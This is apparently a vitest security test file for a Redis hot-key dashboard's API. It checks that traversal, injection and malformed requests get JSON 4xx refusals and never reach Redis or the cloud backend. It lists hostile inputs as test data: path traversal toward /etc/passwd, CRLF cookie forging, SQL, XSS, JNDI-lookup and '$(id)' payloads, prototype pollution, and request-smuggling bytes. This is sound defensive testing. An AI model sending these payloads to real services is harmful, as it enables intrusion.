import fc from 'fast-check';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { z } from 'zod';
import {
  CONTRACT_CREDENTIALS,
  CONTRACT_INSTANCES,
  type DcsContractServer,
  startDcsContractServer,
} from '../../../test-support/dcs-contract-server';
import { autoscanConfigSchema, scheduleRunListSchema } from '../../contract/autoscan';
import { errorBodySchema } from '../../contract/error-body';
import { createTaskRequestSchema, taskListSchema, taskSchema } from '../../contract/hotkey-task';
import { alertDeliveryListSchema, alertRuleSchema } from '../../contract/hotkey-alerts';
import { instanceListSchema, instanceSummarySchema } from '../../contract/instance-summary';
import { meSchema, sessionInfoSchema, signOutSchema } from '../../contract/session';
import { parseConfig } from '../config/load-config';
import { type RedisServerProcess, startRedisServer } from '../local-redis/redis-server-process';
import { connect, disconnect, LFU_TEST_ARGS, type TestClient } from '../../../test-support/lfu-keyspace';
import { type RunningDashboard, startDashboard } from '../start-dashboard';
import { rawBytes, rawRequest, type RawRequest, type RawResponse } from '../../../test-support/raw-http';
import { expectApiHeaders, expectSecurityHeaders } from '../../../test-support/security-headers';

/**
 * Whatever a client sends, the BFF answers a 4xx JSON error or a valid success, never a 5xx, and an
 * invalid request never reaches Redis or DCS: the Redis server's own counters and the DCS contract
 * server's request log prove it.
 */

const INSTANCE = 'standalone';
const DCS_INSTANCE = CONTRACT_INSTANCES.haEligible.id;
/** An id DCS might own: only a well-formed request may make the BFF ask the cloud whether it does. */
const UNKNOWN_DCS = '11111111-2222-4333-8444-555555555555';
const MALFORMED_FOR_UNKNOWN_DCS: RawRequest[] = [
  { method: 'POST', path: `/api/instances/${UNKNOWN_DCS}/hotkey-tasks`, body: '{"impact":1}' },
  { method: 'GET', path: `/api/instances/${UNKNOWN_DCS}/hotkey-tasks?limit=abc` },
  { method: 'GET', path: `/api/instances/${UNKNOWN_DCS}/hotkey-tasks/a%00b` },
  { method: 'DELETE', path: `/api/instances/${UNKNOWN_DCS}/hotkey-tasks/..%2F..` },
  { method: 'PUT', path: `/api/instances/${UNKNOWN_DCS}/hotkey-autoscan`, body: '{"enable_auto_scan":1}' },
  { method: 'PUT', path: `/api/instances/${UNKNOWN_DCS}/hotkey-alert-rule`, body: '{"freq_threshold":"hot"}' },
];
/** Answers that refuse a request for what it is: none of them may have cost an upstream call. */
const REFUSALS = new Set([400, 401, 403, 405, 413, 415, 429]);
const KNOWN_TASK = '00000000-0000-4000-8000-000000000000';
const RULES = { 'content-type': 'application/json', 'x-requested-with': 'hotkeys' };

/** Path segments as they go on the wire (already percent-encoded where a raw byte cannot). */
const HOSTILE_IDS = [
  '..',
  '.',
  '...',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%2e.',
  '..%2F..%2Fetc%2Fpasswd',
  '%2F',
  '%2Fetc%2Fpasswd',
  '%252F',
  '%252e%252e%252F',
  `${INSTANCE}%2F..`,
  `${INSTANCE}%2F`,
  'a%5Cb',
  '..%5C..%5Cwindows',
  '%EF%BC%8F',
  `${INSTANCE}%EF%BC%8Fx`,
  '%EF%BC%8E%EF%BC%8E',
  '%00',
  `${INSTANCE}%00`,
  '%0d%0a',
  `x%0d%0aSet-Cookie:%20hotkeys_session=forged`,
  '%09',
  '%20',
  `${INSTANCE}%20`,
  '%2F%2Fevil.example',
  'http:%2F%2Fevil.example',
  'a'.repeat(1024),
  `${'a'.repeat(64)}b`,
  '%',
  '%zz',
  '%ff',
  '%c0%ae%c0%ae',
  '%u002e%u002e',
  '%E2%80%AE',
  '%E2%80%8B',
  '%F0%9F%94%A5',
  encodeURIComponent('ｓｔａｎｄａｌｏｎｅ'),
  encodeURIComponent("' OR 1=1 --"),
  encodeURIComponent('<script>alert(1)</script>'),
  encodeURIComponent('${jndi:ldap://evil.example/a}'),
  encodeURIComponent('{{7*7}}'),
  encodeURIComponent('$(id)'),
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9'.repeat(400),
  'STANDALONE',
  `-${INSTANCE}`,
  `${INSTANCE}.`,
  `${INSTANCE};x=1`,
  '*',
  '~root',
];

/** Every route with a path parameter, for one hostile instance id. */
const routesForInstance = (id: string): RawRequest[] => [
  { method: 'GET', path: `/api/instances/${id}` },
  { method: 'GET', path: `/api/instances/${id}/hotkey-tasks` },
  // a valid body: only the id may stop it
  { method: 'POST', path: `/api/instances/${id}/hotkey-tasks`, body: '{}' },
  { method: 'GET', path: `/api/instances/${id}/hotkey-tasks/${KNOWN_TASK}` },
  { method: 'DELETE', path: `/api/instances/${id}/hotkey-tasks/${KNOWN_TASK}` },
  { method: 'POST', path: `/api/instances/${id}/hotkey-tasks/${KNOWN_TASK}/cancel` },
  { method: 'GET', path: `/api/instances/${id}/hotkey-autoscan` },
  { method: 'PUT', path: `/api/instances/${id}/hotkey-autoscan`, body: '{"enable_auto_scan":false,"schedule_at":[]}' },
  { method: 'GET', path: `/api/instances/${id}/hotkey-autoscan/runs` },
  { method: 'GET', path: `/api/instances/${id}/hotkey-alert-rule` },
  { method: 'PUT', path: `/api/instances/${id}/hotkey-alert-rule`, body: '{"enabled":false,"freq_threshold":10}' },
  { method: 'GET', path: `/api/instances/${id}/hotkey-alerts` },
];

const routesForTask = (taskId: string, instance = INSTANCE): RawRequest[] => [
  { method: 'GET', path: `/api/instances/${instance}/hotkey-tasks/${taskId}` },
  { method: 'DELETE', path: `/api/instances/${instance}/hotkey-tasks/${taskId}` },
  { method: 'POST', path: `/api/instances/${instance}/hotkey-tasks/${taskId}/cancel` },
];

const HOSTILE_QUERIES = [
  'limit=abc',
  'limit=0',
  'limit=-1',
  'limit=1.5',
  'limit=1e309',
  'limit=Infinity',
  'limit=1001',
  'limit=99999999999999999999999',
  'offset=-1',
  'offset=1e9',
  'offset=NaN',
  'offset=%00',
  'status=done',
  'status=success%00',
  'status=SUCCESS',
  'status=success%0d%0aX:y',
  'status=__proto__',
  `status=${'x'.repeat(1024)}`,
  `limit=${'9'.repeat(8000)}`,
  'limit[]=1&limit=-5',
];

const CREATE_BODIES = [
  '{',
  '{"impact":"fast",}',
  "{'impact':'fast'}",
  '[]',
  '[1,2]',
  'null',
  'true',
  '0',
  '"gentle"',
  '{"impact":1}',
  '{"impact":null}',
  '{"impact":["fast"]}',
  '{"impact":{"$gt":""}}',
  '{"impact":"FAST"}',
  '{"impact":"fast\\u0000"}',
  '{"method":"sample","seconds":1e309}',
  '{"method":"sample","seconds":-1}',
  '{"method":"sample","seconds":0.5}',
  '{"method":"sample","seconds":9007199254740993}',
  '{"method":"sample","seconds":"5"}',
  '{"method":"lfu","seconds":5}',
  '{"method":"monitor"}',
  '{"__proto__":{"role":"operator"}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"impact":"fast","extra":1}',
  `{"impact":"${'x'.repeat(1024)}"}`,
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  '\u0000',
  '\ud800',
];

const AUTOSCAN_BODIES = [
  '{}',
  '{"enable_auto_scan":"yes","schedule_at":[]}',
  '{"enable_auto_scan":true,"schedule_at":[]}',
  '{"enable_auto_scan":true,"schedule_at":["25:00"]}',
  '{"enable_auto_scan":true,"schedule_at":["1:00"]}',
  '{"enable_auto_scan":true,"schedule_at":["10:00","10:00"]}',
  `{"enable_auto_scan":true,"schedule_at":${JSON.stringify(Array.from({ length: 25 }, (_, i) => `${String(i % 24).padStart(2, '0')}:${i < 24 ? '00' : '30'}`))}}`,
  '{"enable_auto_scan":true,"schedule_at":"10:00"}',
  '{"enable_auto_scan":false,"schedule_at":[],"instance_id":"other"}',
];

const ALERT_RULE_BODIES = [
  '{"enabled":true,"freq_threshold":255}',
  '{"enabled":true,"freq_threshold":-1}',
  '{"enabled":true,"freq_threshold":1.5}',
  '{"enabled":"yes","freq_threshold":1}',
  '{"enabled":true}',
  '{"enabled":true,"freq_threshold":1,"key_pattern":""}',
  `{"enabled":true,"freq_threshold":1,"key_pattern":"${'*'.repeat(300)}"}`,
  '{"enabled":true,"freq_threshold":1,"webhook":"http://evil.example"}',
  '{',
  'null',
];

const SESSION_BODIES = [
  '{"token":123}',
  '{"token":""}',
  `{"token":"${'x'.repeat(2000)}"}`,
  '{"token":null}',
  '{}',
  '[',
];

/** Wrong methods on every route. */
const WRONG_METHODS: RawRequest[] = [
  { method: 'PATCH', path: `/api/instances/${INSTANCE}/hotkey-tasks`, body: '{}' },
  { method: 'PUT', path: `/api/instances/${INSTANCE}/hotkey-tasks`, body: '{}' },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}/hotkey-tasks` },
  { method: 'POST', path: `/api/instances/${INSTANCE}`, body: '{}' },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}` },
  { method: 'PUT', path: `/api/instances/${INSTANCE}/hotkey-tasks/${KNOWN_TASK}`, body: '{}' },
  { method: 'POST', path: `/api/instances/${INSTANCE}/hotkey-tasks/${KNOWN_TASK}`, body: '{}' },
  { method: 'GET', path: `/api/instances/${INSTANCE}/hotkey-tasks/${KNOWN_TASK}/cancel` },
  { method: 'POST', path: `/api/instances/${INSTANCE}/hotkey-autoscan`, body: '{}' },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}/hotkey-autoscan` },
  { method: 'POST', path: '/api/instances', body: '{}' },
  { method: 'POST', path: '/api/health', body: '{}' },
  { method: 'PUT', path: '/api/me', body: '{}' },
  { method: 'PATCH', path: '/api/session', body: '{}' },
  { method: 'OPTIONS', path: `/api/instances/${INSTANCE}/hotkey-tasks` },
  { method: 'TRACE', path: '/api/instances' },
  { method: 'PROPFIND', path: '/api/instances' },
];

/** The table: hostile ids on every route, hostile task ids, queries, bodies and methods. */
const HOSTILE_REQUESTS: RawRequest[] = (
  [
    ...HOSTILE_IDS.flatMap(routesForInstance),
    ...[INSTANCE, DCS_INSTANCE].flatMap((instance) => [
      ...HOSTILE_IDS.flatMap((taskId) => routesForTask(taskId, instance)),
      ...HOSTILE_QUERIES.map((query) => ({ method: 'GET', path: `/api/instances/${instance}/hotkey-tasks?${query}` })),
      ...CREATE_BODIES.map((body) => ({ method: 'POST', path: `/api/instances/${instance}/hotkey-tasks`, body })),
      ...AUTOSCAN_BODIES.map((body) => ({ method: 'PUT', path: `/api/instances/${instance}/hotkey-autoscan`, body })),
    ]),
    ...ALERT_RULE_BODIES.map((body) => ({ method: 'PUT', path: `/api/instances/${INSTANCE}/hotkey-alert-rule`, body })),
    ...SESSION_BODIES.map((body) => ({ method: 'POST', path: '/api/session', body })),
    ...WRONG_METHODS,
  ] as RawRequest[]
).map((request) => ({ ...request, headers: { ...RULES, ...request.headers } }));

let redis: RedisServerProcess;
let dcs: DcsContractServer;
let counterClient: TestClient;
let dir: string;
let dashboard: RunningDashboard;
let before: RedisCounters;

interface RedisCounters {
  connections: number;
  commands: number;
}

/** The server's own counters, less the INFO that reads them. */
async function redisCounters(): Promise<RedisCounters> {
  const info = await counterClient.info('stats');
  const read = (name: string) => Number(new RegExp(`${name}:(\\d+)`).exec(info)?.[1]);
  return { connections: read('total_connections_received'), commands: read('total_commands_processed') };
}

beforeAll(async () => {
  [redis, dcs] = await Promise.all([startRedisServer({ args: LFU_TEST_ARGS }), startDcsContractServer()]);
  counterClient = await connect(redis.url);
  dir = mkdtempSync(join(tmpdir(), 'hotkeys-hostile-'));
  const staticDir = join(dir, 'web');
  mkdirSync(join(staticDir, 'assets'), { recursive: true });
  writeFileSync(join(staticDir, 'index.html'), '<!doctype html><title>spa</title>');
  writeFileSync(join(staticDir, 'assets', 'app.js'), 'console.log(1)');
  writeFileSync(join(dir, 'secret.txt'), 'OUTSIDE-THE-STATIC-ROOT');
  dashboard = await startDashboard({
    config: parseConfig(
      {
        sources: [{ kind: 'redis', id: INSTANCE, name: 'S', url: redis.url }, dcsSource()],
      },
      'test',
    ),
    dataDir: join(dir, 'data'),
    host: '127.0.0.1',
    port: 0,
    staticDir,
    env: DCS_ENV,
  });
  // Both sources know their instances now; the Redis summary cache is then left to expire: nothing
  // below may ask Redis anything.
  const { instances } = instanceListSchema.parse((await call({ path: '/api/instances' })).json);
  expect(instances.map((i) => i.id)).toEqual(expect.arrayContaining([INSTANCE, DCS_INSTANCE]));
  before = await redisCounters();
}, 60_000);

afterAll(async () => {
  await dashboard?.close();
  disconnect(counterClient);
  await Promise.all([redis?.stop(), dcs?.close()]);
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const DCS_ENV = { DCS_AK: CONTRACT_CREDENTIALS.ak, DCS_SK: CONTRACT_CREDENTIALS.sk };
const dcsSource = () => ({
  kind: 'dcs' as const,
  id: 'cloud',
  name: 'Cloud',
  endpoint: dcs.url,
  projectId: dcs.projectId,
  auth: { method: 'aksk' as const, akEnv: 'DCS_AK', skEnv: 'DCS_SK' },
});

const dcsCalls = () => dcs.control.calls() + dcs.control.iamCalls();

/** One request; a refusal must have left the DCS contract server's request count where it was. */
async function call(request: RawRequest): Promise<RawResponse> {
  const dcsBefore = dcsCalls();
  const response = await rawRequest(dashboard.url, request);
  if (REFUSALS.has(response.status)) {
    expect(dcsCalls() - dcsBefore, `DCS calls for ${request.method} ${request.path.slice(0, 120)}`).toBe(0);
  }
  return response;
}

/** A 4xx answer must be the JSON error body with the API headers. */
function expectJsonRefusal(request: RawRequest, response: RawResponse): void {
  const what = `${request.method} ${request.path.slice(0, 120)} ${String(request.body).slice(0, 60)}`;
  expect(response.status, `${what}: ${response.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
  expect(response.status, `${what}: ${response.text.slice(0, 200)}`).toBeLessThan(500);
  if (request.method === 'HEAD') return;
  expect(errorBodySchema.safeParse(response.json).success, `${what}: ${response.text.slice(0, 200)}`).toBe(true);
  expect(response.headers['content-type']).toMatch(/^application\/json/);
  expect(response.text, `${what}: no stack trace`).not.toMatch(/\bat .+\.(ts|js):\d+/);
  expectHeadersFor(request, response);
}

describe('hostile input', () => {
  it(`refuses ${HOSTILE_REQUESTS.length} hostile ids, parameters, bodies and methods with 4xx JSON`, async () => {
    expect(HOSTILE_IDS.length).toBeGreaterThanOrEqual(40);
    for (const request of HOSTILE_REQUESTS) expectJsonRefusal(request, await call(request));
  });

  it('answers 400, not 404, for ids the format check refuses', async () => {
    for (const id of ['..%2F..%2Fetc%2Fpasswd', '%252F', 'a%5Cb', '%00', '%0d%0a', 'a'.repeat(1024), '%EF%BC%8F']) {
      for (const request of routesForInstance(id)) {
        const response = await call({ ...request, headers: RULES });
        expect(`${request.method} ${request.path.slice(0, 80)} -> ${response.status}`).toBe(
          `${request.method} ${request.path.slice(0, 80)} -> 400`,
        );
      }
    }
  });

  it('refuses a raw backslash in the path with a JSON 400 and the security headers', async () => {
    for (const path of [
      `/api/instances/a\\b`,
      `/api/instances/${INSTANCE}/hotkey-tasks/..\\..\\x`,
      '/..\\secret.txt',
    ]) {
      const response = await call({ path });
      expect(response.status, path).toBe(400);
      expectSecurityHeaders(response.headers, path);
      expect(errorBodySchema.safeParse(response.json).success, `${path}: ${response.text}`).toBe(true);
    }
  });

  it("answers what Node's HTTP parser refuses with the same JSON error and headers", async () => {
    const requests: [string, number][] = [
      [`GET /api/instances?limit=${'9'.repeat(20_000)} HTTP/1.1\r\nHost: x\r\n\r\n`, 431],
      [`GET /api/instances/a${'\u0000'}b HTTP/1.1\r\nHost: x\r\n\r\n`, 400],
      [`GET /api/instances/\u00ef\u00bc\u008f HTTP/1.1\r\nHost: x\r\n\r\n`, 400],
      [`GET /api/instances/x\rSet-Cookie: a=b HTTP/1.1\r\nHost: x\r\n\r\n`, 400],
      [`G(T /api/instances HTTP/1.1\r\nHost: x\r\n\r\n`, 400],
      [`GET /api/health HTTP/1.1\r\nHost: evil.example/x\r\n\r\n`, 400],
      [
        `POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
        400,
      ],
    ];
    for (const [bytes, status] of requests) {
      const what = JSON.stringify(bytes.slice(0, 60));
      const response = await rawBytes(dashboard.url, bytes);
      expect(response.status, what).toBe(status);
      expect(errorBodySchema.safeParse(response.json).success, `${what}: ${response.text}`).toBe(true);
      expectApiHeaders(response.headers, what);
    }
    expect((await call({ path: '/api/me' })).status).toBe(200);
  });

  it('never serves a file from outside the static root', async () => {
    const attempts = [
      '/..%2fsecret.txt',
      '/%2e%2e/secret.txt',
      '/%2e%2e%2fsecret.txt',
      '/assets/..%2f..%2fsecret.txt',
      '/assets/%2e%2e/%2e%2e/secret.txt',
      '/assets/%252e%252e/secret.txt',
      '/..%252fsecret.txt',
      '/%c0%ae%c0%ae/secret.txt',
      '//secret.txt',
      '/assets/app.js%00.html',
    ];
    for (const path of attempts) {
      const response = await call({ path });
      expect(response.status, path).toBeLessThan(500);
      expect(response.text, path).not.toContain('OUTSIDE-THE-STATIC-ROOT');
      expectSecurityHeaders(response.headers, path);
    }
  });

  it('answers 1,000 random requests with a 4xx JSON error or a valid success, never a 5xx', async () => {
    const segment = fc.oneof(
      fc.constantFrom(...HOSTILE_IDS),
      fc.string({ maxLength: 70 }).map(encodeURIComponent),
      fc.string({ unit: 'grapheme', maxLength: 20 }).map(encodeURIComponent),
      fc.constantFrom(INSTANCE, DCS_INSTANCE, KNOWN_TASK, 'nope'),
    );
    const query = fc
      .dictionary(
        fc.constantFrom('offset', 'limit', 'status', 'x'),
        fc.oneof(fc.string({ maxLength: 30 }), fc.integer().map(String), fc.double().map(String)),
        { maxKeys: 3 },
      )
      .map((q) => new URLSearchParams(q).toString());
    const body = fc.oneof(
      fc.json({ maxDepth: 3 }),
      fc.string({ maxLength: 200 }),
      fc
        .record(
          {
            impact: fc.anything({ maxDepth: 1 }),
            method: fc.anything({ maxDepth: 1 }),
            seconds: fc.anything({ maxDepth: 1 }),
          },
          { requiredKeys: [] },
        )
        .map((r) => JSON.stringify(r) ?? ''),
      fc
        .record(
          {
            enable_auto_scan: fc.anything({ maxDepth: 1 }),
            schedule_at: fc.array(fc.string({ maxLength: 6 }), { maxLength: 30 }),
          },
          { requiredKeys: [] },
        )
        .map((r) => JSON.stringify(r)),
    );
    const template = fc.constantFrom(
      (id: string) => `/api/instances/${id}`,
      (id: string) => `/api/instances/${id}/hotkey-tasks`,
      (id: string, task: string) => `/api/instances/${id}/hotkey-tasks/${task}`,
      (id: string, task: string) => `/api/instances/${id}/hotkey-tasks/${task}/cancel`,
      (id: string) => `/api/instances/${id}/hotkey-autoscan`,
      (id: string) => `/api/instances/${id}/hotkey-autoscan/runs`,
      (id: string) => `/api/instances/${id}/hotkey-alert-rule`,
      (id: string) => `/api/instances/${id}/hotkey-alerts`,
      () => '/api/session',
      () => '/api/me',
      (id: string) => `/api/${id}`,
    );
    const requestArb = fc
      .record({
        method: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD'),
        template,
        id: segment,
        task: segment,
        query,
        body: fc.option(body, { nil: undefined }),
        rules: fc.constantFrom(RULES, RULES, RULES, { 'content-type': 'text/plain' }, {}),
      })
      .map(({ method, template, id, task, query, body, rules }) => ({
        method,
        path: `${template(id, task)}${query ? `?${query}` : ''}`,
        body: method === 'GET' || method === 'HEAD' ? undefined : body,
        headers: rules,
      }))
      .filter((request) => !reachesUpstream(request));

    let successes = 0;
    await fc.assert(
      fc.asyncProperty(requestArb, async (request) => {
        const response = await call(request);
        if (response.status < 400) {
          expectValidSuccess(request, response);
          successes++;
        } else {
          expectJsonRefusal(request, response);
        }
      }),
      { numRuns: 1000, seed: 20261128, endOnFailure: true },
    );
    expect(successes, 'the generator also produces some valid requests').toBeGreaterThan(0);
  });

  it('asks DCS about an unknown id only for a well-formed request', async () => {
    // The DCS source looks an unknown id up at most every 10 s; a fake clock lets each request be due.
    vi.useFakeTimers({ toFake: ['Date'] });
    const cloudOnly = await startDashboard({
      config: parseConfig({ sources: [dcsSource()] }, 'test'),
      dataDir: join(dir, 'cloud-only'),
      host: '127.0.0.1',
      port: 0,
      env: DCS_ENV,
    });
    try {
      const due = () => vi.setSystemTime(Date.now() + 11_000);
      for (const request of MALFORMED_FOR_UNKNOWN_DCS) {
        due();
        const before = dcsCalls();
        const response = await rawRequest(cloudOnly.url, { ...request, headers: RULES });
        expect(`${request.method} ${request.path} -> ${response.status}`).toBe(
          `${request.method} ${request.path} -> 400`,
        );
        expect(dcsCalls() - before, `DCS calls for ${request.method} ${request.path}`).toBe(0);
      }
      due();
      const before = dcsCalls();
      const wellFormed = await rawRequest(cloudOnly.url, { path: `/api/instances/${UNKNOWN_DCS}/hotkey-tasks` });
      expect(wellFormed.status).toBe(404);
      expect(dcsCalls() - before, 'a well-formed request for an unknown id does ask').toBeGreaterThan(0);
    } finally {
      await cloudOnly.close();
      vi.useRealTimers();
    }
  });

  it('made no Redis call for any of them (and no DCS call for any refusal), and still answers', async () => {
    const after = await redisCounters();
    expect(after.connections - before.connections, 'new connections to Redis').toBe(0);
    expect(after.commands - before.commands, 'commands beyond the INFO reading the counters').toBe(1);
    expect((await call({ path: '/api/health' })).status).toBe(200);
  });
});

/**
 * The random requests that may rightly reach upstream: reading the Redis instance, or a valid start
 * (which would also leave an analysis running behind the test's back).
 */
function reachesUpstream(request: RawRequest): boolean {
  const target = /^\/api\/instances\/([^/]*)(\/hotkey-tasks)?$/.exec(normalise(request.path));
  const id = safeDecode(target?.[1] ?? '');
  if (id !== INSTANCE && id !== DCS_INSTANCE) return false;
  if (!target?.[2]) return id === INSTANCE && (request.method === 'GET' || request.method === 'HEAD');
  if (request.method !== 'POST') return false;
  return createTaskRequestSchema.safeParse(parseOrUndefined(request.body)).success;
}

/** What the WHATWG URL parser makes of dot segments before the router sees the path. */
const normalise = (path: string): string => new URL(path.split('?')[0] ?? '', 'http://x').pathname;

const safeDecode = (segment: string): string | undefined => {
  try {
    return decodeURIComponent(segment);
  } catch {
    return undefined;
  }
};

const parseOrUndefined = (body: string | Buffer | undefined): unknown => {
  const text = body?.toString() ?? '';
  if (text.trim() === '') return {};
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
};

/** Dot segments can lead a path out of /api/, to the SPA, which has the security headers but may be cached. */
function expectHeadersFor(request: RawRequest, response: RawResponse): void {
  const what = `${request.method} ${request.path.slice(0, 120)}`;
  if (normalise(request.path).startsWith('/api/')) expectApiHeaders(response.headers, what);
  else expectSecurityHeaders(response.headers, what);
}

function expectValidSuccess(request: RawRequest, response: RawResponse): void {
  expectHeadersFor(request, response);
  if (request.method === 'HEAD' || request.method === 'OPTIONS') return;
  const path = normalise(request.path);
  if (!path.startsWith('/api/')) {
    expect(response.text, `${request.method} ${request.path}: the SPA shell`).toContain('<title>spa</title>');
    return;
  }
  const schemas: [RegExp, z.ZodType][] = [
    [/^\/api\/me$/, meSchema],
    [
      /^\/api\/session$/,
      { GET: sessionInfoSchema, DELETE: signOutSchema }[request.method as 'GET' | 'DELETE'] ?? meSchema,
    ],
    [/^\/api\/instances$/, instanceListSchema],
    [/^\/api\/instances\/[^/]+$/, instanceSummarySchema],
    [/^\/api\/instances\/[^/]+\/hotkey-tasks$/, request.method === 'GET' ? taskListSchema : taskSchema],
    [/^\/api\/instances\/[^/]+\/hotkey-tasks\/[^/]+(\/cancel)?$/, taskSchema],
    [/^\/api\/instances\/[^/]+\/hotkey-autoscan$/, autoscanConfigSchema],
    [/^\/api\/instances\/[^/]+\/hotkey-autoscan\/runs$/, scheduleRunListSchema],
    [/^\/api\/instances\/[^/]+\/hotkey-alert-rule$/, alertRuleSchema],
    [/^\/api\/instances\/[^/]+\/hotkey-alerts$/, alertDeliveryListSchema],
  ];
  const schema = schemas.find(([pattern]) => pattern.test(path))?.[1];
  expect(schema, `${request.method} ${request.path} answered ${response.status}: ${response.text}`).toBeDefined();
  expect(schema!.safeParse(response.json).success, `${request.method} ${request.path}: ${response.text}`).toBe(true);
}
